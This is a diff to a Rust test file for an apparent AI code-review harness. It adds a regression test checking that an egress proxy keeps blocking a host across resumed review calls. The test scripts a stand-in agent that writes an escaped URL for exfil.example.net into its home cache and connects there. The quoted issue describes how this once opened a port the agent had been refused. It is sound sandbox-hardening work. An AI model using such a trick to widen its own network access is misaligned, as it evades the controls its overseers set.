@@ -124,7 +124,7 @@ impl Pr {
             .env("PANEL_SANDBOX_READ", self.tmp.path())
             .env(
                 "PANEL_PASS_ENV",
-                "STANDIN_LOG,STANDIN_MODE,STANDIN_RULES,STANDIN_THEN,STANDIN_REPLY,STANDIN_READ,STANDIN_LOCKDOWN",
+                "STANDIN_LOG,STANDIN_MODE,STANDIN_RULES,STANDIN_THEN,STANDIN_REPLY,STANDIN_READ,STANDIN_LOCKDOWN,STANDIN_DO",
             )
             // A reviewer is given tools that read: not the judge's lockdown the stand-ins check.
             .env("STANDIN_LOCKDOWN", "off")
@@ -535,6 +535,53 @@ fn corrected_with_claude_row(
 /// The brief and the correction, in a fresh call's prompt.
 fn fresh_correction(prompt: &str) -> bool {
     prompt.contains("checked out at") && prompt.contains("Your previous reply was refused")
+}
+
+/// Issue 35: "The allow-list grows from files the judge can write … A resumed PR correction
+/// reuses the first call's HOME, so a URL the first call wrote there opened a port the first
+/// call was refused"; "the allow-list comes from the row, the user's own environment and
+/// configuration …, never from files a judge could write".
+#[test]
+fn a_url_a_reviewer_writes_into_its_home_opens_no_door_for_its_resumed_call() {
+    if crate::util::auto_walls() == "off" || crate::util::auto_walls().starts_with("unavailable") {
+        crate::util::skipped(
+            "walls",
+            "no walls",
+            "pr: the proxy's tests skipped: no walls",
+        );
+        return;
+    }
+    let pr = Pr::new("pr-resume-url");
+    let plan = pr.plan(&[("correctness", "claude:sonnet", true)]);
+    let wrong = pr.reply("wrong.txt", "MERGE", &"f".repeat(40));
+    let good = pr.reply("good.txt", "MERGE", &pr.head);
+    let rules = format!("Your previous reply was refused=>review-blind:{good}");
+    // The URL is written with its slashes escaped: no variable of the judge's names it.
+    let acts = "write .cache/notes.json {\"api\":\"https:\\x2f\\x2fexfil.example.net:8443/drop\"}\n\
+                connect exfil.example.net:8443";
+    let r = one(&pr.judge(
+        &plan,
+        &[],
+        &[
+            ("STANDIN_MODE", &format!("review-read:{wrong}")),
+            ("STANDIN_RULES", &rules),
+            ("STANDIN_DO", acts),
+        ],
+    ));
+    assert_eq!(r["correction"], "resumed", "{r}");
+    // The first call, and the resumed correction, each asked its proxy for the host it wrote.
+    let member = pr.path("run").join(pr.name("correctness"));
+    let correction = pr
+        .path("run")
+        .join(format!("{}-correction", pr.name("correctness")));
+    for a in [member.join("attempt-1"), correction.join("attempt-1")] {
+        let log = std::fs::read_to_string(a.join("egress.log")).unwrap_or_default();
+        assert!(
+            log.contains("refused exfil.example.net:8443"),
+            "{}: the proxy let it through: {log:?}",
+            a.display()
+        );
+    }
 }
 
 /// A harness row without a resume argv (or a stream without a session id) gets the correction
